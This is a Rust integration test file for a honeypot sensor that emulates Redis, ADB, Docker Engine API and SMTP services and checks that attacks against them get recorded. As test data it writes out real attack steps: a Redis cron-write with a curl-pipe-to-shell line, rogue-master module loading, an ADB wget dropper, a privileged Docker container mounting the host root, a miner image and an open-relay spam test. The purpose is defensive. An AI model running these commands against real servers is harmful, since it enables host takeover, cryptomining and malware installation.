//! The services attackers hit now (issue 17) against their ordinary clients: Redis with
//! `redis-cli` (a cryptominer campaign, a rogue master, a module load, AUTH), ADB with Debian's
//! `adb` (connect, shell, push), the Docker Engine API with the `docker` CLI (version, a
//! privileged run with the host's root mounted, exec, pull), SMTP with `swaks` (AUTH LOGIN and
//! PLAIN, an open-relay test mail with an attachment), and `nmap -sV` naming each one.
// Integration tests and benches may panic; the workspace denies unwrap/expect elsewhere.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use drosera_sensor::config::{Config, Persona, ServiceKind, ServiceSection, SmtpRelay};
use drosera_sensor::governor::Pressure;
use drosera_uplink::event::{Detail, Event, Protocol, SampleOutcome, Secret};
use std::time::Duration;
use support::{require_client, run_client, sha256_hex, Harness};
use tokio::process::Command;

const CLIENT_TIMEOUT: Duration = Duration::from_secs(30);

/// (user, password, success, extra) of a login.
type Login = (String, String, bool, Vec<(String, String)>);

fn logins(evs: &[Event]) -> Vec<Login> {
    evs.iter()
        .filter_map(|e| match &e.detail {
            Detail::Login { username, secret: Secret::Password(p), success, extra } => {
                Some((username.clone(), p.clone(), *success, extra.clone()))
            }
            _ => None,
        })
        .collect()
}

/// The extra fields of the exploit named `name` (the first one).
fn exploit(evs: &[Event], name: &str) -> Option<Vec<(String, String)>> {
    evs.iter().find_map(|e| match &e.detail {
        Detail::Exploit { name: n, extra, .. } if n == name => Some(extra.clone()),
        _ => None,
    })
}

fn field<'a>(extra: &'a [(String, String)], key: &str) -> &'a str {
    extra.iter().find(|(k, _)| k == key).map_or("", |(_, v)| v.as_str())
}

fn commands(evs: &[Event]) -> Vec<String> {
    evs.iter()
        .filter_map(|e| match &e.detail {
            Detail::Command { line } => Some(line.clone()),
            _ => None,
        })
        .collect()
}

fn downloads(evs: &[Event]) -> Vec<(String, String)> {
    evs.iter()
        .filter_map(|e| match &e.detail {
            Detail::DownloadOffered { url, tool } => Some((url.clone(), tool.clone())),
            _ => None,
        })
        .collect()
}

/// (sha256 hex, size, name, outcome) of every sample from `source`.
fn samples(evs: &[Event], source: &str) -> Vec<(String, u64, String, SampleOutcome)> {
    evs.iter()
        .filter_map(|e| match &e.detail {
            Detail::Sample { sha256, size, name, source: s, outcome } if s == source => {
                Some((hex::encode(sha256), *size, name.clone(), *outcome))
            }
            _ => None,
        })
        .collect()
}

/// Asserts that the sample area holds exactly `bytes` under their hash, read-only.
fn assert_kept(h: &Harness, bytes: &[u8]) {
    use std::os::unix::fs::PermissionsExt;
    let path = h.samples_dir().join(sha256_hex(bytes));
    assert_eq!(std::fs::read(&path).unwrap_or_default(), bytes, "sample {path:?}");
    assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o400);
}

fn stdout(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redis_cli_cryptominer_campaign_rogue_master_module_load_and_auth() {
    if !require_client("redis-cli") {
        return;
    }
    let h = Harness::start(&["redis"]).await;
    let port = h.port(Protocol::Redis).to_string();
    let cli = |args: &[&str]| {
        let mut c = Command::new("redis-cli");
        c.args(["-h", "127.0.0.1", "-p", &port, "--no-auth-warning"]).args(args);
        c
    };
    let run = |c: Command| async move {
        let out = run_client(c, CLIENT_TIMEOUT).await;
        assert!(out.status.success(), "redis-cli: {}", String::from_utf8_lossy(&out.stderr));
        stdout(&out).trim().to_string()
    };
    // The campaign, one redis-cli per step as the scripts run it.
    let cron = "\n\n*/1 * * * * curl -fsSL http://203.0.113.7/init.sh | sh\n\n";
    assert_eq!(run(cli(&["flushall"])).await, "OK");
    assert_eq!(run(cli(&["set", "x", cron])).await, "OK");
    assert_eq!(run(cli(&["config", "set", "dir", "/var/spool/cron"])).await, "OK");
    assert_eq!(run(cli(&["config", "set", "dbfilename", "root"])).await, "OK");
    assert_eq!(run(cli(&["config", "get", "dir"])).await, "dir\n/var/spool/cron", "the server remembers the step");
    assert_eq!(run(cli(&["save"])).await, "OK");
    // Rogue master and its module.
    assert_eq!(run(cli(&["replicaof", "203.0.113.9", "21000"])).await, "OK");
    assert!(run(cli(&["info", "replication"])).await.contains("master_host:203.0.113.9"));
    assert_eq!(run(cli(&["module", "load", "/tmp/exp.so"])).await, "OK");
    let _ = run(cli(&["system.exec", "wget http://203.0.113.9/xmr -O /tmp/xmr"])).await;
    // A value longer than a line is streamed into a sample (redis-cli -x reads it from stdin).
    let dir = tempfile::tempdir().unwrap();
    let big: Vec<u8> = (0..20_000u32).map(|i| (i * 31 % 251) as u8).collect();
    std::fs::write(dir.path().join("big"), &big).unwrap();
    let mut c = cli(&["-x", "set", "payload"]);
    c.stdin(std::fs::File::open(dir.path().join("big")).unwrap()).kill_on_drop(true);
    let out = tokio::time::timeout(CLIENT_TIMEOUT, c.output()).await.unwrap().unwrap();
    assert_eq!(stdout(&out).trim(), "OK", "{}", String::from_utf8_lossy(&out.stderr));
    // AUTH: refused twice (the login policy's first refusals), then a weak pair gets in.
    let auth = |args: &[&str]| {
        let mut c = cli(args);
        c.arg("ping");
        c
    };
    for (args, refused) in [
        (&["-a", "hunter2"][..], true),
        (&["--user", "admin", "--pass", "s3cret"], true),
        (&["--user", "root", "--pass", "root"], false),
    ] {
        let out = run_client(auth(args), CLIENT_TIMEOUT).await;
        let text = format!("{}{}", stdout(&out), String::from_utf8_lossy(&out.stderr));
        assert_eq!(text.contains("WRONGPASS"), refused, "{args:?}: {text}");
    }

    let evs =
        h.wait_for(Duration::from_secs(10), |evs| logins(evs).len() >= 3 && !samples(evs, "redis").is_empty()).await;
    let write = exploit(&evs, "redis-cron-write").expect("cron write exploit");
    assert_eq!(field(&write, "path"), "/var/spool/cron/root");
    assert_eq!(field(&write, "command"), "SAVE");
    assert!(field(&write, "value:x").contains("curl -fsSL http://203.0.113.7/init.sh | sh"), "{write:?}");
    let master = exploit(&evs, "redis-rogue-master").expect("rogue master");
    assert_eq!(field(&master, "master"), "203.0.113.9:21000");
    let module = exploit(&evs, "redis-module-load").expect("module load");
    assert_eq!((field(&module, "path"), field(&module, "master")), ("/tmp/exp.so", "203.0.113.9:21000"));
    let dl = downloads(&evs);
    assert!(dl.contains(&("http://203.0.113.7/init.sh".into(), "curl".into())), "{dl:?}");
    assert!(dl.contains(&("http://203.0.113.9/xmr".into(), "wget".into())), "{dl:?}");
    let cmds = commands(&evs);
    assert!(cmds.contains(&r#""config" "set" "dir" "/var/spool/cron""#.to_string()), "{cmds:?}");
    assert!(cmds.contains(&r#""save""#.to_string()), "{cmds:?}");
    // The cron line and the streamed value are kept, byte for byte.
    let kept = samples(&evs, "redis");
    assert!(
        kept.contains(&(sha256_hex(cron.as_bytes()), cron.len() as u64, "x".into(), SampleOutcome::Kept)),
        "{kept:?}"
    );
    assert!(kept.contains(&(sha256_hex(&big), big.len() as u64, "payload".into(), SampleOutcome::Kept)), "{kept:?}");
    assert_kept(&h, cron.as_bytes());
    assert_kept(&h, &big);
    let l: Vec<(String, String, bool)> = logins(&evs).into_iter().map(|(u, p, s, _)| (u, p, s)).collect();
    assert_eq!(
        l,
        vec![
            ("default".into(), "hunter2".into(), false),
            ("admin".into(), "s3cret".into(), false),
            ("root".into(), "root".into(), true)
        ]
    );
}

/// An adb server on a private port and home directory, killed when dropped.
struct AdbServer {
    port: String,
    home: tempfile::TempDir,
}

impl AdbServer {
    fn new() -> AdbServer {
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port().to_string();
        AdbServer { port, home: tempfile::tempdir().unwrap() }
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new("adb");
        c.env("HOME", self.home.path()).env_remove("ANDROID_SERIAL").env_remove("ADB_SERVER_SOCKET");
        c.args(["-P", &self.port]).args(args);
        c
    }
}

impl Drop for AdbServer {
    fn drop(&mut self) {
        let _ = std::process::Command::new("adb")
            .env("HOME", self.home.path())
            .args(["-P", &self.port, "kill-server"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn adb_connect_shell_and_push_are_recorded_and_the_pushed_file_kept() {
    if !require_client("adb") {
        return;
    }
    let h = Harness::start(&["adb"]).await;
    let device = format!("127.0.0.1:{}", h.port(Protocol::Adb));
    let adb = AdbServer::new();
    let out = run_client(adb.cmd(&["start-server"]), CLIENT_TIMEOUT).await;
    assert!(out.status.success(), "adb start-server: {}", String::from_utf8_lossy(&out.stderr));
    let out = run_client(adb.cmd(&["connect", &device]), CLIENT_TIMEOUT).await;
    assert!(stdout(&out).contains(&format!("connected to {device}")), "{}", stdout(&out));
    let out = run_client(adb.cmd(&["-s", &device, "shell", "getprop ro.product.model"]), CLIENT_TIMEOUT).await;
    assert_eq!(stdout(&out).trim(), "X96mini");
    let dropper = "cd /data/local/tmp; wget http://203.0.113.7/x; chmod 777 x";
    let out = run_client(adb.cmd(&["-s", &device, "shell", dropper]), CLIENT_TIMEOUT).await;
    assert!(out.status.success(), "adb shell: {}", String::from_utf8_lossy(&out.stderr));
    let dir = tempfile::tempdir().unwrap();
    let file: Vec<u8> = (0..300_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let local = dir.path().join("x");
    std::fs::write(&local, &file).unwrap();
    let out =
        run_client(adb.cmd(&["-s", &device, "push", local.to_str().unwrap(), "/data/local/tmp/x"]), CLIENT_TIMEOUT)
            .await;
    assert!(out.status.success(), "adb push: {}{}", stdout(&out), String::from_utf8_lossy(&out.stderr));
    drop(adb);

    let evs = h.wait_for(Duration::from_secs(10), |evs| !samples(evs, "adb-push").is_empty()).await;
    let fp = evs.iter().find_map(|e| match &e.detail {
        Detail::Fingerprint { kind, value, .. } if kind == "adb-host" => Some(value.clone()),
        _ => None,
    });
    assert!(fp.is_some_and(|v| v.starts_with("host::")), "the client's identity is recorded");
    let cmds = commands(&evs);
    assert!(cmds.contains(&dropper.to_string()), "{cmds:?}");
    assert!(cmds.contains(&"sync:".to_string()), "{cmds:?}");
    assert_eq!(downloads(&evs), vec![("http://203.0.113.7/x".into(), "wget".into())]);
    assert_eq!(
        samples(&evs, "adb-push"),
        vec![(sha256_hex(&file), file.len() as u64, "/data/local/tmp/x".into(), SampleOutcome::Kept)]
    );
    assert_kept(&h, &file);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_cli_version_privileged_run_exec_and_pull_are_recorded() {
    if !require_client("docker") || !require_client("curl") {
        return;
    }
    let h = Harness::start(&["docker"]).await;
    let host = format!("tcp://127.0.0.1:{}", h.port(Protocol::Docker));
    let config = tempfile::tempdir().unwrap();
    let docker = |args: &[&str]| {
        let mut c = Command::new("docker");
        c.env("DOCKER_CONFIG", config.path()).env_remove("DOCKER_HOST").env_remove("DOCKER_CONTEXT");
        c.args(["-H", &host]).args(args);
        c
    };
    let out = run_client(docker(&["version", "--format", "{{.Server.Version}} {{.Server.Os}}"]), CLIENT_TIMEOUT).await;
    assert_eq!(stdout(&out).trim(), "26.1.4 linux", "{}", String::from_utf8_lossy(&out.stderr));
    let payload = r#"chroot /host sh -c "curl -fsSL http://203.0.113.7/d.sh | sh""#;
    let out = run_client(
        docker(&["run", "-d", "--privileged", "-v", "/:/host", "alpine", "sh", "-c", payload]),
        CLIENT_TIMEOUT,
    )
    .await;
    let id = stdout(&out).trim().to_string();
    assert!(
        id.len() == 64 && id.bytes().all(|b| b.is_ascii_hexdigit()),
        "docker run: {id} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = run_client(docker(&["ps", "--format", "{{.Image}} {{.Status}}"]), CLIENT_TIMEOUT).await;
    assert!(stdout(&out).contains("alpine Up"), "the attacker's container runs: {}", stdout(&out));
    let out = run_client(
        docker(&["exec", "web", "sh", "-c", "echo ok; wget http://203.0.113.7/e -O /tmp/e"]),
        CLIENT_TIMEOUT,
    )
    .await;
    assert_eq!(stdout(&out).trim(), "ok", "{}", String::from_utf8_lossy(&out.stderr));
    let out = run_client(docker(&["pull", "alpine:3.19"]), CLIENT_TIMEOUT).await;
    assert!(out.status.success(), "docker pull: {}", String::from_utf8_lossy(&out.stderr));
    // A campaign script's curl, its JSON sent chunked.
    let mut c = Command::new("curl");
    c.args(["-sS", "-X", "POST", "-H", "Content-Type: application/json", "-H", "Transfer-Encoding: chunked"]);
    c.args(["--data-binary", r#"{"Image":"kinsing/miner","Cmd":["sh","-c","wget http://203.0.113.8/k.sh"]}"#]);
    c.arg(format!("http://127.0.0.1:{}/v1.41/containers/create", h.port(Protocol::Docker)));
    let out = run_client(c, CLIENT_TIMEOUT).await;
    assert!(stdout(&out).starts_with(r#"{"Id":""#), "curl: {}{}", stdout(&out), String::from_utf8_lossy(&out.stderr));

    let evs = h.wait_for(Duration::from_secs(10), |evs| downloads(evs).iter().any(|(_, t)| t == "docker-pull")).await;
    let create = exploit(&evs, "docker-container-create").expect("create recorded");
    assert_eq!(field(&create, "image"), "alpine");
    assert_eq!(field(&create, "cmd"), format!("sh -c {payload}"));
    assert_eq!(field(&create, "binds"), "/:/host");
    assert_eq!(field(&create, "privileged"), "true");
    assert_eq!(field(&create, "escape"), "privileged,host-root-mount");
    assert_eq!(field(&create, "id"), id);
    // The whole create body is kept as a payload, named by the route.
    let body = evs.iter().find_map(|e| match &e.detail {
        Detail::Payload { name, prefix, truncated: false, .. } if name == "/containers/create" => Some(prefix.clone()),
        _ => None,
    });
    let body = String::from_utf8(body.expect("create body kept")).unwrap();
    assert!(body.contains(r#""Privileged":true"#) && body.contains(r#""Image":"alpine""#), "{body}");
    assert!(evs.iter().any(|e| matches!(&e.detail, Detail::HttpRequest { method, path, .. } if method == "POST" && path.ends_with("/containers/create"))));
    assert!(
        commands(&evs).contains(&"sh -c echo ok; wget http://203.0.113.7/e -O /tmp/e".to_string()),
        "{:?}",
        commands(&evs)
    );
    let chunked = evs.iter().find_map(|e| match &e.detail {
        Detail::Exploit { name, extra, .. }
            if name == "docker-container-create" && field(extra, "image") == "kinsing/miner" =>
        {
            Some(field(extra, "cmd").to_string())
        }
        _ => None,
    });
    assert_eq!(chunked.as_deref(), Some("sh -c wget http://203.0.113.8/k.sh"), "the chunked create is parsed");
    let dl = downloads(&evs);
    for want in [
        ("http://203.0.113.8/k.sh", "wget"),
        ("http://203.0.113.7/d.sh", "curl"),
        ("http://203.0.113.7/e", "wget"),
        ("docker://docker.io/library/alpine:3.19", "docker-pull"),
    ] {
        assert!(dl.contains(&(want.0.to_string(), want.1.to_string())), "{want:?} in {dl:?}");
    }
}

/// The message swaks sent between DATA and the final `.`, from its transcript (`-> ` lines),
/// dot-unstuffed: what the sensor must have kept.
fn swaks_body(transcript: &str) -> Vec<u8> {
    let mut body = Vec::new();
    let mut in_data = false;
    for line in transcript.split('\n') {
        if !in_data {
            in_data = line.starts_with("<-  354 ");
            continue;
        }
        let Some(sent) = line.strip_prefix(" -> ") else { continue };
        if sent == "." || sent == ".\r" {
            return body;
        }
        body.extend_from_slice(sent.strip_prefix('.').unwrap_or(sent).as_bytes());
        body.push(b'\n');
    }
    panic!("no DATA in the transcript:\n{transcript}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn swaks_auth_and_open_relay_test_mail_with_attachment_is_kept() {
    if !require_client("swaks") {
        return;
    }
    let mut cfg = support::config_for(&["smtp"]);
    cfg.credentials.refuse_first = 1;
    let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    let server = format!("127.0.0.1:{}", h.port(Protocol::Smtp));
    let dir = tempfile::tempdir().unwrap();
    let attachment = dir.path().join("invoice.pdf");
    std::fs::write(&attachment, b"%PDF-1.4\n.not really\n").unwrap();
    let swaks = |auth: &str, user: &str, pass: &str| {
        let mut c = Command::new("swaks");
        c.args([
            "--server",
            &server,
            "--from",
            "spam@203.0.113.9",
            "--to",
            "victim@example.org",
            "--helo",
            "relaytest",
        ]);
        c.args(["--auth", auth, "--auth-user", user, "--auth-password", pass, "--auth-optional"]);
        c.args(["--header", "Subject: relay test 203.0.113.9", "--body", "hello\n.dotted line\n..two dots\n"]);
        c.arg("--attach").arg(&attachment);
        c
    };
    // AUTH LOGIN refused (the policy's first refusal); the spammer sends anyway (--auth-optional).
    let first = run_client(swaks("LOGIN", "admin", "hunter2"), CLIENT_TIMEOUT).await;
    let first_text = stdout(&first);
    assert!(first.status.success() && first_text.contains("<** 535 5.7.8"), "{first_text}");
    assert!(first_text.contains("<-  250 2.0.0 Ok: queued as "), "{first_text}");
    // AUTH PLAIN with a weak pair gets in.
    let second = run_client(swaks("PLAIN", "root", "root"), CLIENT_TIMEOUT).await;
    assert!(stdout(&second).contains("<-  235 2.7.0 Authentication successful"), "{}", stdout(&second));

    let evs = h.wait_for(Duration::from_secs(10), |evs| samples(evs, "smtp-body").len() >= 2).await;
    let l = logins(&evs);
    assert_eq!(l.len(), 2, "{l:?}");
    assert_eq!(
        (l[0].0.as_str(), l[0].1.as_str(), l[0].2, field(&l[0].3, "method")),
        ("admin", "hunter2", false, "smtp-login")
    );
    assert_eq!(
        (l[1].0.as_str(), l[1].1.as_str(), l[1].2, field(&l[1].3, "method")),
        ("root", "root", true, "smtp-plain")
    );
    assert_eq!(field(&l[0].3, "helo"), "relaytest");
    let relay = exploit(&evs, "smtp-relay-attempt").expect("relay test recorded");
    assert_eq!(
        (field(&relay, "from"), field(&relay, "rcpt"), field(&relay, "relay")),
        ("spam@203.0.113.9", "victim@example.org", "accepted")
    );
    // The body is kept exactly as swaks sent it, dot-unstuffed.
    let body = swaks_body(&first_text);
    // swaks stuffed ".dotted" and "..two" with one more dot each; unstuffed they are the body's.
    let needle = b"\r\nhello\r\n.dotted line\r\n..two dots\r\n";
    assert!(body.windows(needle.len()).any(|w| w == needle), "unstuffed lines in {:?}", String::from_utf8_lossy(&body));
    let kept = samples(&evs, "smtp-body");
    assert_eq!(kept[0], (sha256_hex(&body), body.len() as u64, "relay test 203.0.113.9".into(), SampleOutcome::Kept));
    assert_kept(&h, &body);
    assert!(commands(&evs).iter().any(|c| c == "EHLO relaytest"));
    assert!(!commands(&evs).iter().any(|c| c.contains("hunter2")), "credentials stay out of command lines");

    // With relaying refused, the recipient is refused and that is recorded too.
    let mut cfg = support::config_for(&["smtp"]);
    cfg.smtp.relay = SmtpRelay::Refuse;
    let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    let mut c = Command::new("swaks");
    c.args([
        "--server",
        &format!("127.0.0.1:{}", h.port(Protocol::Smtp)),
        "--from",
        "a@203.0.113.9",
        "--to",
        "b@example.org",
    ]);
    let out = run_client(c, CLIENT_TIMEOUT).await;
    assert!(stdout(&out).contains("554 5.7.1 <b@example.org>: Relay access denied"), "{}", stdout(&out));
    let evs = h.wait_connections(1, Duration::from_secs(10)).await;
    let relay = exploit(&evs, "smtp-relay-attempt").expect("refused relay recorded");
    assert_eq!(field(&relay, "relay"), "refused");
    assert!(samples(&evs, "smtp-body").is_empty());

    // A message above `[smtp] max_message_bytes` is read to its end, refused with 552, and only
    // its first max_message_bytes are kept, marked as cut short.
    let mut cfg = support::config_for(&["smtp"]);
    cfg.smtp.max_message_bytes = 1000;
    let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    let mut c = Command::new("swaks");
    c.args([
        "--server",
        &format!("127.0.0.1:{}", h.port(Protocol::Smtp)),
        "--from",
        "a@203.0.113.9",
        "--to",
        "b@example.org",
        "--body",
        &"spam spam spam spam\n".repeat(200),
    ]);
    let out = run_client(c, CLIENT_TIMEOUT).await;
    let text = stdout(&out);
    assert!(text.contains("SIZE 1000") && text.contains("<** 552 5.3.4 Error: message file too big"), "{text}");
    let evs = h.wait_for(Duration::from_secs(10), |evs| !samples(evs, "smtp-body").is_empty()).await;
    let cut = evs.iter().find_map(|e| match &e.detail {
        Detail::Payload { size, truncated, .. } => Some((*size, *truncated)),
        _ => None,
    });
    assert!(cut.is_some_and(|(size, truncated)| truncated && size > 0 && size <= 1000), "{cut:?}");
    assert!(samples(&evs, "smtp-body")[0].1 <= 1000);
}

/// Binds the four services on their standard ports (SMTP on 2525: no root needed) of a free
/// loopback address other than 127.0.0.1, so nmap tries the probes registered for those ports,
/// as it does against a real host.
fn standard_ports_config() -> (Config, std::net::IpAddr) {
    for attempt in 0..50u32 {
        let n = std::process::id().wrapping_mul(2_654_435_761).wrapping_add(attempt * 7919);
        let ip = std::net::IpAddr::from([127, 17 + (n % 200) as u8, (n >> 8) as u8, 2 + (n >> 16) as u8 % 250]);
        let ports = [("redis", 6379u16), ("adb", 5555), ("docker", 2375), ("smtp", 2525)];
        if ports.iter().any(|(_, p)| std::net::TcpListener::bind((ip, *p)).is_err()) {
            continue;
        }
        let mut cfg = support::config_for(&[]);
        cfg.services = ports
            .iter()
            .map(|(k, p)| ServiceSection {
                kind: match *k {
                    "redis" => ServiceKind::Redis,
                    "adb" => ServiceKind::Adb,
                    "docker" => ServiceKind::Docker,
                    _ => ServiceKind::Smtp,
                },
                ports: vec![*p],
                bind: ip,
                banner: String::new(),
                enabled: true,
                host_key: None,
                passive_ports: None,
                passive_address: None,
                transport: None,
                description_port: None,
            })
            .collect();
        return (cfg, ip);
    }
    panic!("no free loopback address for the standard ports");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_names_each_service_with_a_believable_product() {
    if !require_client("nmap") {
        return;
    }
    let (cfg, ip) = standard_ports_config();
    let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    let mut c = Command::new("nmap");
    c.args(["-sV", "-Pn", "-n", "--host-timeout", "150s", "-p", "6379,5555,2375,2525", &ip.to_string()]);
    let out = run_client(c, Duration::from_secs(180)).await;
    let text = stdout(&out);
    for (port, service, product) in [
        ("6379/tcp", "redis", "Redis key-value store 6.0.16"),
        ("5555/tcp", "adb", "Android Debug Bridge device (name: p281; model: X96mini; device: p281"),
        ("2375/tcp", "docker", "Docker 26.1.4 (API 1.45)"),
        ("2525/tcp", "smtp", "Postfix smtpd"),
    ] {
        let line = text.lines().find(|l| l.starts_with(port)).unwrap_or("");
        assert!(
            line.contains(" open ") && line.contains(service) && line.contains(product),
            "{port}: {product:?} in\n{text}"
        );
    }
    // nmap's probes were sessions like any other.
    let _ = h.wait_connections(4, Duration::from_secs(10)).await;
}

/// One story per persona: on a Windows server and on an IoT gateway, `nmap -sV` names the
/// persona's products (Redis for Windows, Docker Desktop, IIS SMTP; an arm64 board's Redis and
/// Docker, Exim) and its "Service Info" line names the persona's OS, not Debian's. Both scans run
/// at once (each sensor on its own loopback address).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_agrees_with_the_persona() {
    if !require_client("nmap") {
        return;
    }
    let scan = |ip: std::net::IpAddr| {
        let mut c = Command::new("nmap");
        c.args(["-sV", "-Pn", "-n", "--host-timeout", "150s", "-p", "6379,5555,2375,2525", &ip.to_string()]);
        run_client(c, Duration::from_secs(180))
    };
    // Start each sensor before choosing the next address, so the two never pick the same one.
    let (mut cfg, win_ip) = standard_ports_config();
    cfg.sensor.persona = Persona::WindowsServer;
    let _win = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    let (mut cfg, iot_ip) = standard_ports_config();
    cfg.sensor.persona = Persona::IotRouter;
    let _iot = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    assert_ne!(win_ip, iot_ip);
    let (win, iot) = tokio::join!(scan(win_ip), scan(iot_ip));
    for (text, products, os) in [
        (
            stdout(&win),
            [
                ("6379/tcp", "Redis key-value store 5.0.14.1"),
                ("5555/tcp", "Android Debug Bridge device (name: vbox86p; model: Samsung Galaxy S8"),
                ("2375/tcp", "Docker 24.0.7 (API 1.43)"),
                ("2525/tcp", "Microsoft ESMTP 10.0.17763.1"),
            ],
            ("Host: MAIL;", "cpe:/o:microsoft:windows", "linux"),
        ),
        (
            stdout(&iot),
            [
                ("6379/tcp", "Redis key-value store 6.0.16"),
                ("5555/tcp", "Android Debug Bridge device (name: p281; model: X96mini"),
                ("2375/tcp", "Docker 24.0.7 (API 1.43)"),
                ("2525/tcp", "Exim smtpd 4.96"),
            ],
            ("Host: gateway;", "OSs: linux, Android;", "windows"),
        ),
    ] {
        for (port, product) in products {
            let line = text.lines().find(|l| l.starts_with(port)).unwrap_or("");
            assert!(line.contains(" open ") && line.contains(product), "{port}: {product:?} in\n{text}");
        }
        // The OS nmap reports for the host (the order of its OS names varies between runs); an
        // ADB always adds Android (an emulator on a Windows server is one).
        let (host, has, has_not) = os;
        let info = text.lines().find(|l| l.starts_with("Service Info: ")).unwrap_or("");
        let oss = info.split("OSs: ").nth(1).and_then(|r| r.split(';').next()).unwrap_or("");
        assert!(
            info.contains(host) && info.contains(has) && !oss.is_empty() && !oss.to_lowercase().contains(has_not),
            "{os:?} in\n{text}"
        );
    }
}
